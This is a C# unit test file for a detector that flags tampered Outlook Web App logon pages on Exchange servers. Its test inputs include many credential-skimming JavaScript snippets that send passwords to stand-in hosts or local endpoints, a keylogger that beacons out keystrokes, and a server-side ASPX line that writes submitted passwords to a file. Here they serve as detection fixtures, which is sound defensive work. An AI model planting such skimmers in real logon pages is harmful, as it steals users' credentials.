using System.Text;
using Breakwater.Detection.WebFiles;
using Breakwater.Model;

namespace Breakwater.Detection.Tests.WebFiles;

/// <summary>The password may be shown, copied and checked on its page; it may not leave it.</summary>
public sealed class LogonPageTest
{
    private const string Auth = "C:/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/";
    private const string Script = Auth + "15.1.2507/scripts/premium/flogon.js";

    [Theory]
    [InlineData("var d = escape(gbid(\"username\").value + \"\\t\" + gbid(\"password\").value); var x = new XMLHttpRequest(); x.open(\"POST\", \"/owa/auth/a.aspx\", true); x.send(d);")]
    [InlineData("var clkLgn = function(){ var p = document.getElementById('password').value; var all = u + ':' + p; new Image().src = 'https://files.example/x.png?' + btoa(all); }")]
    [InlineData("$.post('/owa/auth/x.ashx', { u: $('#username').val(), p: $('#password').val() });")]
    [InlineData("fetch('//a.example/', { method: 'POST', body: document.logonForm.password.value })")]
    [InlineData("let secret = gbid(\"passwordText\").value; document.cookie = \"logondata=\" + secret;")]
    [InlineData("navigator.sendBeacon('/owa/auth/b.aspx', document.querySelector('input[name=\"password\"]').value);")]
    [InlineData("x.open('POST', '/owa/auth/themes/a.png'); x.send(document.getElementsByName(\"username\")[0].value + ':' + document.getElementsByName(\"password\")[0].value);")]
    [InlineData("const field = document.querySelector(\"input[type=password]\"); const user = gbid('username'); fetch('//a.example/' + btoa(user.value + '|' + field.value));")]
    [InlineData("document.logonForm.onsubmit = () => { fetch('/owa/auth/c.aspx', { method: 'POST', body: new FormData(document.logonForm) }) }")]
    [InlineData("var all = $('form').serialize(); $.get('/owa/auth/c.aspx?d=' + all);")]
    [InlineData("function save(d) { var x = new XMLHttpRequest(); x.open('POST', '/owa/auth/b.aspx'); x.send(d); } var old = clkLgn; clkLgn = function () { save(gbid('password').value); old(); }")]
    [InlineData("var drop = (what) => { new Image().src = '/owa/auth/p.png?' + what; }; drop(document.logonForm['password']['value']);")]
    [InlineData("var keys = ''; document.addEventListener('keydown', function (e) { keys += e.key; if (keys.length > 20) { navigator.sendBeacon('/owa/auth/k.aspx', keys); keys = ''; } });")]
    [InlineData("var i = document.createElement('img'); i.setAttribute('src', 'https://a.example/?' + gbid('password').value);")]
    [InlineData("window.location.replace('https://a.example/?p=' + encodeURIComponent(gbid('password').value));")]
    public void PasswordThatLeaves_IsHigh(string script)
    {
        var trace = Assert.Single(Examine(Script, script));
        Assert.Equal(("owa-logon-page", Rung.Credentials, Confidence.High), (trace.Campaign, trace.Rung, trace.Confidence));
    }

    [Theory]
    [InlineData("if (gbid(\"rdoPrvt\").checked) { document.cookie = \"logondata=acc=1&lgn=\" + gbid(\"username\").value; } gbid(\"passwordText\").value = gbid(\"password\").value;")]
    [InlineData("if (document.getElementById('password').value == '') { window.location = '/owa/auth/logon.aspx?reason=2'; }")]
    [InlineData("var x = new XMLHttpRequest(); x.open('GET', '/owa/auth/15.1.2507/news.txt', true); x.send(); var p = gbid('password').value.length;")]
    [InlineData("var field = document.getElementById(\"password\"); field.focus(); var x = new XMLHttpRequest(); x.open('GET', '/owa/auth/news.txt'); x.send();")]
    [InlineData("function hint(t) { document.getElementById('hint').textContent = t; } hint(gbid('password').value.length < 8 ? 'short' : '');")]
    [InlineData("document.onkeydown = function (e) { if (e.key == 'Enter') { clkLgn(); } if (e.getModifierState('CapsLock')) { caps += 1; } }; navigator.sendBeacon('/stats', caps);")]
    [InlineData("i.setAttribute('placeholder', gbid('password').value); document.write('<input id=\"password\">');")]
    [InlineData("")]
    public void PasswordThatStays_IsNoTrace(string script) => Assert.Empty(Examine(Script, script));

    [Fact]
    public void PasswordThatTheServerWritesDown_IsHigh()
    {
        var page = Pages.Logon + "<%@ Import namespace=\"System.IO\"%><% File.AppendAllText(Server.MapPath(\"x.png\"), Request.Form[\"username\"] + Request.Form[\"password\"]); %>";
        Assert.Equal("owa-logon-page", Assert.Single(Examine(Auth + "logon.aspx", page)).Campaign);
    }

    [Theory]
    [InlineData("https://login.example/collect", true)]
    [InlineData("//a.example/owa/auth.owa.php", true)]
    [InlineData("https://mail.example/owa/auth.owa", false)]
    [InlineData("/owa/auth.owa", false)]
    public void FormThatGoesElsewhere_IsMedium(string action, bool isFound)
    {
        var traces = Examine(Auth + "logon.aspx", $"<%@ Page Language=\"C#\" %><html><form name=\"logonForm\" action=\"{action}\" method=\"post\"><input name=\"password\" type=\"password\"></form></html>");
        Assert.Equal(isFound, traces.Any(t => t is { Campaign: "owa-logon-page", Confidence: Confidence.Medium }));
    }

    [Fact]
    public void SameScriptElsewhere_IsNoLogonPage() => Assert.Empty(Examine("C:/inetpub/wwwroot/portal/login.js", "$.post('/login', { p: $('#password').val() });"));

    [Theory]
    [InlineData("a=password.value+b=")]
    [InlineData("a=b=")]
    [InlineData("password.value ")]
    [InlineData(".send(")]
    [InlineData("x =                              ")]
    [InlineData(".src = $_$")]
    [InlineData("function f(a,b,c,d,e,f){f(password.value)}")]
    [InlineData("f=(a)=>{")]
    public void HostileScript_CostsNoMoreThanItsLength(string part)
    {
        var script = new LogonScript("password.value;" + string.Concat(Enumerable.Repeat(part, (1 << 17) / part.Length)));
        _ = script.Leak();
        Assert.InRange(script.Visited, 0, 8 << 17);
    }

    private static IReadOnlyList<FileTrace> Examine(string path, string text) => Pages.Detector("15.1.2507.16").Examine(Pages.File(path, Encoding.UTF8.GetBytes(text)));
}
